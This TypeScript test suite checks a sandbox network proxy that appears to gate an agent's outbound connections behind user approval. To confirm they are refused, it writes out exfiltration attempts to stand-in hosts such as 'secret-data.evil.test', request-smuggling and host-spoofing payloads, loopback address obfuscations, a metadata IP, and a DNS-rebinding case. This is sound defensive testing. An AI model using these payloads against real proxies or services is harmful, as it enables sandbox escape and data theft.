import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import type { IncomingMessage, RequestListener } from "node:http";
import { createServer as createTlsServer } from "node:https";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { leaveOut } from "../needs-cargo.js";
import {
  hostRule,
  httpServer,
  listening,
  needsNamespaces,
  rawServer,
  SandboxWorld,
  sending,
} from "./sandbox-network-fixture.js";

const says =
  (text: string): RequestListener =>
  (request, response) =>
    void response.end(`${text} ${request.method ?? ""} ${request.url ?? ""} for ${request.headers.host ?? ""}`);

const name = "api.example.test";
const curl = ["curl", "-sS", "--max-time", "20"];
/** Rules for a name of the test's own server, and for the address behind it. */
const reaching = (port: number, host = name): readonly ReturnType<typeof hostRule>[] => [
  hostRule("allow", `${host}:${port}`),
  hostRule("allow", `127.0.0.1:${port}`),
];
const names = { [name]: ["127.0.0.1"] };

describe("the network of a sandbox", function () {
  this.timeout(60_000);
  before(function () {
    needsNamespaces(this);
  });

  it("has no way out but the proxy", async () => {
    await using server = await httpServer(says("reached"));
    await using world = new SandboxWorld({ rules: reaching(server.port), names });
    const direct = await world.run([...curl, "--noproxy", "*", `http://127.0.0.1:${server.port}/`]);
    assert.deepEqual([direct.code, direct.stdout], [7, ""]);
    const script = `
      const { lookup } = require("dns");
      const socket = require("dgram").createSocket("udp4");
      lookup("secret.evil.test", (error) => socket.send("x", 53, "192.0.2.53", (other) => {
        console.log(error?.code, other?.code, Object.keys(require("os").networkInterfaces()).join());
        socket.close();
      }));`;
    assert.equal((await world.run([process.execPath, "-e", script])).stdout, "EAI_AGAIN ENETUNREACH lo\n");
    assert.deepEqual(world.lookedUp, []);
  });

  it("reaches what is allowed by absolute addresses, tunnels and tunnels of plain HTTP", async () => {
    await using server = await httpServer(says("reached"));
    await using world = new SandboxWorld({ rules: reaching(server.port), names });
    const address = `http://${name}:${server.port}/a?b=c`;
    const expected = `reached GET /a?b=c for ${name}:${server.port}`;
    for (const option of [[], ["--proxytunnel"], ["--proxytunnel", "--http1.0"]]) {
      assert.deepEqual(await world.run([...curl, ...option, address]), { code: 0, stdout: expected, stderr: "" });
    }
    const twice = await world.run([...curl, "--proxytunnel", address, address]);
    assert.equal(twice.stdout, expected + expected);
    assert.deepEqual(world.recorded, [`allow ${name}:${server.port}`]);
  });

  it("passes bodies, headers and answers on as they are", async () => {
    await using server = await httpServer((request, response) => {
      const chunks: Buffer[] = [];
      request.on("data", (chunk: Buffer) => chunks.push(chunk));
      request.on("end", () => {
        response.writeHead(201, "Well made", { "X-One": ["a", "b"] });
        response.end(
          `${String(request.headers["x-sent"])} ${String(request.headers["proxy-connection"])} ${Buffer.concat(chunks).toString()}`,
        );
      });
    });
    await using world = new SandboxWorld({ rules: reaching(server.port), names });
    for (const option of [[], ["--proxytunnel"]]) {
      for (const body of [[], ["-H", "Transfer-Encoding: chunked"]]) {
        const { stdout } = await world.run([
          ...curl,
          "-i",
          ...option,
          ...body,
          "-H",
          "X-Sent: yes",
          "-d",
          "the body",
          `http://${name}:${server.port}/`,
        ]);
        assert.match(
          stdout.slice(stdout.indexOf("HTTP/1.1 201")),
          /^HTTP\/1\.1 201 Well made\r\nX-One: a\r\nX-One: b\r\n[^]*\r\n\r\nyes undefined the body$/,
        );
      }
    }
  });

  it("asks before a name is looked up, and tells the program why it is refused", async () => {
    await using world = new SandboxWorld({ answer: () => Promise.resolve("no") });
    for (const scheme of ["http", "https"]) {
      const { stdout, stderr } = await world.run([...curl, "-v", `${scheme}://secret-data.evil.test/`]);
      const port = scheme === "http" ? 80 : 443;
      assert.match(`${stderr}${stdout}`, new RegExp(`secret-data\\.evil\\.test:${port} is refused by the user`));
    }
    assert.deepEqual(world.asked, ["secret-data.evil.test:80", "secret-data.evil.test:443"]);
    assert.deepEqual(world.lookedUp, []);
  });

  it("holds the connection while the user is asked, and asks once for all", async () => {
    await using server = await httpServer(says("reached"));
    let answer: () => void = () => undefined;
    const answered = new Promise<void>((resolve) => (answer = resolve));
    await using world = new SandboxWorld({
      rules: [hostRule("allow", `127.0.0.1:${server.port}`)],
      names,
      answer: async () => {
        setImmediate(answer);
        await answered;
        return "session";
      },
    });
    const address = `http://${name}:${server.port}/`;
    const { stdout } = await world.run([...curl, "--parallel", address, address, address]);
    assert.equal(stdout.match(/reached/g)?.length, 3);
    assert.deepEqual(world.asked, [`${name}:${server.port}`]);
  });

  it("gives an answer while the user has none yet", async () => {
    await using world = new SandboxWorld({ holdMs: 50, answer: () => new Promise(() => undefined) });
    const { stdout } = await world.run([...curl, "http://api.example.test/"]);
    assert.equal(
      stdout,
      "The user was asked about api.example.test:80 and has not answered yet. Try again after the answer.\n",
    );
  });

  it("does not connect an allowed name to this machine, whatever its form", async () => {
    await using server = await httpServer(says("reached"));
    await using world = new SandboxWorld({
      rules: [hostRule("allow", `${name}:${server.port}`)],
      names: { [name]: ["127.0.0.1", "::1", "::ffff:127.0.0.1", "169.254.169.254", "10.0.0.1"] },
    });
    const { stdout } = await world.run([...curl, `http://${name}:${server.port}/`]);
    assert.match(stdout, /leads to 127\.0\.0\.1, this machine, which is reachable only if a rule names it/);
    for (const form of ["127.0.0.1", "localhost", "2130706433", "0x7f.1", "[::ffff:127.0.0.1]", "0"]) {
      // As it stands, and not as curl would write it.
      const { stdout: answer } = await world.run(sending(`CONNECT ${form}:${server.port} HTTP/1.1\r\n\r\n`));
      assert.match(answer, /^HTTP\/1\.1 403 .*this machine/, form);
    }
    assert.deepEqual(world.asked, []);
  });

  it("connects to the address that was checked, by one look-up", async () => {
    await using server = await httpServer(says("reached"));
    let count = 0;
    const rebinding = {
      get [name]() {
        return count++ === 0 ? ["127.0.0.1"] : ["127.0.0.2"];
      },
    };
    await using world = new SandboxWorld({ rules: reaching(server.port), names: rebinding });
    const { stdout } = await world.run([...curl, "--proxytunnel", `http://${name}:${server.port}/`]);
    assert.match(stdout, /^reached/);
    assert.deepEqual(world.lookedUp, [name]);
  });

  it("refuses hosts with odd bytes, users and other requests than its own", async () => {
    await using world = new SandboxWorld({ answer: () => Promise.resolve("session") });
    const wrong = [
      "CONNECT evil.test\0.allowed.test:443 HTTP/1.1",
      "CONNECT allowed.test@evil.test:443 HTTP/1.1",
      "CONNECT allowed.test%00.evil.test:443 HTTP/1.1",
      "CONNECT evil.test HTTP/1.1",
      "CONNECT \xffevil.test:443 HTTP/1.1",
      "GET http://allowed.test@evil.test/ HTTP/1.1",
      "GET http://allowed.test:x/ HTTP/1.1",
      "GET ftp://evil.test/ HTTP/1.1",
      "GET / HTTP/1.1\r\nHost: evil.test",
      "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nHost: allowed.test",
      "GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test",
      "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 1\r\nTransfer-Encoding: chunked",
    ];
    for (const request of wrong) {
      const { stdout } = await world.run(sending(`${request}\r\n\r\n`));
      assert.match(stdout, /^(?:HTTP\/1\.1 400 |$)/, request);
    }
    assert.deepEqual([world.asked, world.lookedUp], [[], []]);
  });

  it("looks at each plain request in a tunnel", async () => {
    const hosts: (string | undefined)[] = [];
    await using server = await httpServer((request: IncomingMessage, response) => {
      hosts.push(request.headers.host);
      response.end("reached");
    });
    await using world = new SandboxWorld({ rules: reaching(server.port), names });
    const place = `${name}:${server.port}`;
    const request = (host: string): string => `GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
    const { stdout } = await world.run(
      sending(`CONNECT ${place} HTTP/1.1\r\n\r\n${request(place)}${request("evil.test")}${request(place)}`),
    );
    assert.deepEqual(stdout.match(/HTTP\/1\.1 \d+/g), ["HTTP/1.1 200", "HTTP/1.1 200", "HTTP/1.1 400"]);
    assert.deepEqual(new Set(hosts), new Set([place]));
  });

  it("passes a WebSocket on, and protocols in which the server speaks first", async () => {
    await using server = await rawServer((socket) => {
      socket.once("data", (chunk: Buffer) => {
        const [line = ""] = chunk.toString().split("\r\n");
        socket.end(
          `HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n${line} ${String(/upgrade: websocket/i.test(chunk.toString()))}`,
        );
      });
    });
    await using greeting = await rawServer((socket) => {
      socket.write("220 hello\r\n");
      socket.once("data", (chunk: Buffer) => socket.end(`got ${chunk.toString()}`));
    });
    await using world = new SandboxWorld({ rules: [...reaching(server.port), ...reaching(greeting.port)], names });
    const place = `${name}:${server.port}`;
    const ask = "Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n";
    for (const start of [
      `GET http://${place}/ws HTTP/1.1\r\nHost: ${place}\r\n${ask}`,
      `CONNECT ${place} HTTP/1.1\r\n\r\nGET /ws HTTP/1.1\r\nHost: ${place}\r\n${ask}`,
    ]) {
      assert.match((await world.run(sending(start))).stdout, /GET \/ws HTTP\/1\.1 true$/);
    }
    const script = `const socket = require("net").connect(3128, "127.0.0.1", () => socket.write("CONNECT ${name}:${greeting.port} HTTP/1.1\\r\\n\\r\\n"));
      socket.on("data", (data) => { process.stdout.write(data); if (/220/.test(data)) socket.write("HELO me"); });`;
    assert.match(
      (await world.run([process.execPath, "-e", script])).stdout,
      /200 Connection Established\r\n\r\n220 hello\r\ngot HELO me$/,
    );
  });

  it("lets TLS pass only to the name that was asked about", async function () {
    if (spawnSync("openssl", ["version"]).status !== 0) leaveOut(this, "openssl is missing");
    const folder = mkdtempSync(join(tmpdir(), "hello-"));
    const [key, cert] = [join(folder, "key.pem"), join(folder, "cert.pem")];
    execFileSync(
      "openssl",
      [
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        key,
        "-out",
        cert,
        "-days",
        "2",
        "-subj",
        `/CN=${name}`,
      ],
      { stdio: "ignore" },
    );
    const options = { key: readFileSync(key), cert: readFileSync(cert) };
    rmSync(folder, { recursive: true });
    await using server = await listening(createTlsServer(options, says("reached")));
    await using world = new SandboxWorld({ rules: reaching(server.port), names });
    const place = `${name}:${server.port}`;
    const { stdout } = await world.run([...curl, "-k", `https://${place}/`]);
    assert.equal(stdout, `reached GET / for ${place}`);
    const client = ["openssl", "s_client", "-proxy", "127.0.0.1:3128", "-connect", place];
    const said = async (...more: readonly string[]): Promise<boolean> =>
      (await world.run([...client, ...more])).stdout.includes("BEGIN CERTIFICATE");
    assert.equal(await said("-servername", name.toUpperCase()), true);
    assert.equal(await said("-servername", "evil.test"), false);
    assert.equal(await said("-noservername"), false);
    assert.equal(await said("-servername", `${name}.evil.test`), false);
  });

  it("hands declared ports of this machine in, and no others", async () => {
    await using server = await httpServer(says("reached"));
    await using other = await httpServer(says("other"));
    await using world = new SandboxWorld({ loopbackPorts: [server.port] });
    const { stdout } = await world.run([...curl, `http://127.0.0.1:${server.port}/mcp`]);
    assert.equal(stdout, `reached GET /mcp for 127.0.0.1:${server.port}`);
    assert.equal((await world.run([...curl, `http://127.0.0.1:${other.port}/`])).code, 7);
  });
});
